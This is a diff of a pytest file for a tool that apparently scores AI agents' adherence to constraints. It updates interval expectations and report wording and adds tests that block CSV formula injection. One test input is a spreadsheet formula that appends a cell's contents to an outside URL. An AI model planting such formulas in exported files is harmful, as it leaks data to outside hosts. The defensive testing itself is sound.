@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 
@@ -12,6 +13,9 @@ from constraintrot.cli.guard import clear_errors
 from constraintrot.cli.main import main
 from constraintrot.errors import ParameterError
 from constraintrot.models.config_errors import plain_errors
+from constraintrot.models.in_process.catalogue import MODELS
+from constraintrot.report import frame
+from constraintrot.report.page import frames, untrusted
 from constraintrot.scenario.files import catalogue
 from constraintrot.scenario.private import KEY
 from constraintrot.scenario.schema import WORDINGS
@@ -157,21 +161,71 @@ def test_table_shows_cells_with_n_and_intervals(run: Run, tmp_path: Path) -> Non
     assert "Model: scripted/obedient" in lines
     floors = [line for line in lines if line.startswith("| soft_email") and "floor" in line]
     allowed, prohibited = sorted(floors, key=lambda line: "prohibited" in line)
-    assert "3/3 = 100 % [44, 100]" in prohibited
-    assert "0/1 = 0 % [0, 79]" in allowed
-    assert "1/1 = 100 % [21, 100]" in allowed
+    assert "3/3 = 100 % [29, 100]" in prohibited
+    assert "0/1 = 0 % [0, 98]" in allowed
+    assert "1/1 = 100 % [3, 100]" in allowed
     assert len(out.read_text(encoding="utf-8").splitlines()) == 1 + 9 + 27
 
 
+SIGNS = ("=", "+", "-", "@", "＝")
+FORMULA = '=HYPERLINK("https://example.com/?"&A1,"open")'
+
+
+@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1", "＝1+1"])
+def test_no_cell_of_a_table_is_a_formula(
+    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cell: str
+) -> None:
+    run("soft_email", variants=1, conditions="floor")
+    plain = frame.episodes([tmp_path / "logs"])
+    plain["reason"] = plain["agent"] = cell
+    monkeypatch.setattr(frame, "episodes", lambda logs: plain)
+    out = tmp_path / "episodes.csv"
+    for more in ((), ("--defenses",)):
+        result = call("table", str(tmp_path / "logs"), "--csv", str(out), *more)
+        assert result.exit_code == 0, result.output
+        with out.open(encoding="utf-8", newline="") as file:
+            cells = [one for row in csv.reader(file) for one in row]
+        assert not [one for one in cells if one.lstrip(" \u3000").startswith(SIGNS)]
+    call("table", str(tmp_path / "logs"), "--csv", str(out))
+    assert set(frames.read(str(out))["reason"]) == {untrusted.visible(cell)}
+
+
+@pytest.mark.parametrize("place", [".", "closed/e.csv"])
+def test_a_table_that_cannot_be_written_is_one_clear_line(
+    run: Run, tmp_path: Path, place: str
+) -> None:
+    run("soft_email", variants=1, conditions="floor")
+    (tmp_path / "closed").write_text("a file, so nothing is in it")
+    result = call("table", str(tmp_path / "logs"), "--csv", str(tmp_path / place))
+    assert result.exit_code == 2
+    assert isinstance(result.exception, SystemExit)
+    assert result.stderr.count("\n") == 1
+    assert result.stderr.startswith(f"constraintrot: --csv {tmp_path / place}: ")
+
+
+def test_models_that_cannot_be_listed_are_one_clear_line(cache: Path) -> None:
+    (cache / "models").mkdir(parents=True)
+    (cache / "models" / MODELS[0].filename).write_text("planted")
+    result = call("models", "list")
+    assert result.exit_code == 2
+    assert isinstance(result.exception, SystemExit)
+    assert "is not" in result.stderr.splitlines()[-1]
+    assert "Traceback" not in result.stderr
+
+
 def test_the_table_says_what_it_pools(run: Run, tmp_path: Path) -> None:
-    run("soft_email", variants=1, conditions="compaction,summary_removed", epochs=2)
+    run("soft_email", variants=1, conditions="compaction,summary_removed,sham", epochs=2)
     run("soft_email", variants=1, conditions="compaction", compactor="truncate")
     folder = str(tmp_path / "logs")
     pooled = call("table", folder).stdout
     assert "cells pool several values of compactor; part them with --by compactor" in pooled
     assert "intervals clustered over variants" in pooled
     assert "two runs are counted together" not in pooled
-    assert "2 of 2 summary_removed and summary_restored episodes are degenerate" in pooled
+    assert (
+        "4 of 4 summary_removed and sham episodes are degenerate and in no contrast: the summary"
+        " held nothing of the policy (4)."
+    ) in pooled
+    assert "summary_removed less sham, which is the policy's own part: cannot be told" in pooled
     assert (
         "pool several values of compactor" not in call("table", folder, "--by", "compactor").stdout
     )
@@ -190,7 +244,7 @@ def test_table_marks_silence(tmp_path: Path, run: Run) -> None:
 
     run("soft_email", model=answering("No."), variants=1, conditions="control")
     result = call("table", str(tmp_path / "logs"))
-    assert "1/1 !" in result.stdout
+    assert "| 1       | 1      | 0       | 1 !" in result.stdout
     assert "silence is not safety" in result.stdout
 
 
